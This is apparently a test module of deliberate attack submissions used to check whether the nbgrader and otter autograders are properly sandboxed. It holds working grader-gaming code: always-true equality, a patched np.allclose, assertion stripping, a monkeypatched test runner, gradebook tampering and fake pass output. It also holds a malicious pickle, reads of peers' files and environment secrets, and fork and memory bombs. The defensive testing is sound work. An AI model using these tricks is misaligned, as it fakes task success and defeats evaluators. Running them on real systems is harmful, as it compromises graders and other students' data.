"""The attempts: code of a hand-in that does none of the work and wants the points, or something else.

`LOOT` stands for a folder where code leaves a file when it got what it wanted; `PORT` for a port of this
machine's loopback on which the script itself listens; `NEIGHBOUR` for a word in another hand-in, `COURSE` for
the folder in which grading goes on. Every bomb is bounded.
"""

from __future__ import annotations

from typing import NamedTuple

NOTHING = "def square(x):\n    return None\n"
HONEST = "def square(x):\n    return x * x  # NEIGHBOUR\n"


class Attempt(NamedTuple):
    """What is tried, by grader where it differs. What counts is points gained, or a file in LOOT."""

    name: str
    what: str
    code: str = ""
    nbgrader: str = ""
    otter: str = ""

    def source(self, peer: str) -> str:
        """The hand-in's code for one of the graders."""
        return f"{NOTHING}\n{self.code or getattr(self, peer)}\n"


def _got(name: str, condition: str) -> str:
    return f"if {condition}:\n    open(r'LOOT/{name}', 'w').close()\n"


ATTEMPTS = (
    Attempt(
        "equal",
        "a result that equals everything, `np.allclose` replaced",
        code="""
import numpy as np
class Right:
    __eq__ = lambda self, other: True
def square(x):
    return Right()
np.allclose = lambda *rest, **named: True
""",
    ),
    Attempt(
        "frames",
        "reads expected values in the frames and the input history of the tests",
        nbgrader="""
import sys
def square(x):
    frame = sys._getframe(1)
    return frame.f_globals["expected"] if "expected" in frame.f_globals and isinstance(x, int) else x ** 2.0
""",
        otter="""
import sys
def square(x):
    frame = sys._getframe(1)
    while frame is not None:
        example = frame.f_locals.get("example")
        if example is not None and "==" in example.source:
            return eval(example.source.split("==")[1], frame.f_globals)
        frame = frame.f_back
""",
    ),
    Attempt(
        "asserts",
        "takes assertions out of later cells, or tests' verdicts out of the runner",
        nbgrader="""
import ast
class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(NoAsserts())
""",
        otter="""
from otter.test_files import ok_test
own = ok_test.OKTestFile.run
def run(test, environment):
    own(test, environment)
    for result in test.test_case_results:
        object.__setattr__(result, "passed", True)
ok_test.OKTestFile.run = run
""",
    ),
    Attempt(
        "results",
        "changes results where the grader keeps them: its own, or its neighbour's",
        nbgrader="""
import glob, os, sqlite3
folder = os.getcwd()
while folder != "/" and not os.path.exists(folder + "/gradebook.db"):
    folder = os.path.dirname(folder)
with sqlite3.connect(folder + "/gradebook.db") as book:
    changed = book.execute("update grade set manual_score = 0, auto_score = 0 where auto_score > 0").rowcount
if changed:
    open(r"LOOT/results", "w").close()
""",
        otter="""
import atexit, glob, os, pickle
class Points:
    def __reduce__(self):
        return (os.system, ("touch 'LOOT/results'",))
path = max(glob.glob("/tmp/*.pkl"), key=os.path.getmtime)
atexit.register(lambda: open(path, "wb").write(pickle.dumps(Points())))
""",
    ),
    Attempt("exit", "ends the kernel in the middle", code="import os\nos._exit(0)"),
    Attempt(
        "network",
        "connects to another service of this machine",
        code="""
import socket
socket.create_connection(('127.0.0.1', PORT), 3).send(b'x')
open(r"LOOT/network", "w").close()
""",
    ),
    Attempt(
        "neighbours",
        "reads another hand-in and the tests with their answers",
        code="""
import glob, os
for folder, folders, files in os.walk(r"COURSE"):
    for name in files:
        if name.endswith((".ipynb", ".py", ".zip")):
            if b"NEIGHBOUR" in open(os.path.join(folder, name), "rb").read():
                open(r"LOOT/neighbours", "w").close()
""",
    ),
    Attempt(
        "environment",
        "reads a secret in the environment of whoever started the grading",
        code="import os\n" + _got("environment", "os.environ.get('A_SECRET') == 'LOOT'"),
    ),
    Attempt(
        "bomb",
        "20 processes and 300 MB of memory at once",
        code="""
import os, time
children = []
for _ in range(20):
    child = os.fork()
    if child == 0:
        time.sleep(1)
        os._exit(0)
    children.append(child)
held = b"x" * 300_000_000
for child in children:
    os.waitpid(child, 0)
open(r"LOOT/bomb", "w").close()
""",
    ),
    Attempt(
        "loop",
        "goes on for 75 seconds, whatever it is told",
        code="""
import signal, time
signal.signal(signal.SIGINT, signal.SIG_IGN)
end = time.time() + 75
while time.time() < end:
    time.sleep(0.5)
open(r"LOOT/loop", "w").close()
""",
    ),
    Attempt(
        "daemon",
        "leaves a process behind that outlives the grading",
        code="""
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)  # LOOT"], start_new_session=True)
""",
    ),
    Attempt(
        "stdout",
        "prints that all tests passed, and a result in JSON",
        code="""
print("All tests passed! q1 results: All test cases passed! Score: 2/2 (100%)")
print('{"tests": [{"name": "q1", "score": 2, "max_score": 2}], "score": 2}')
""",
    ),
)
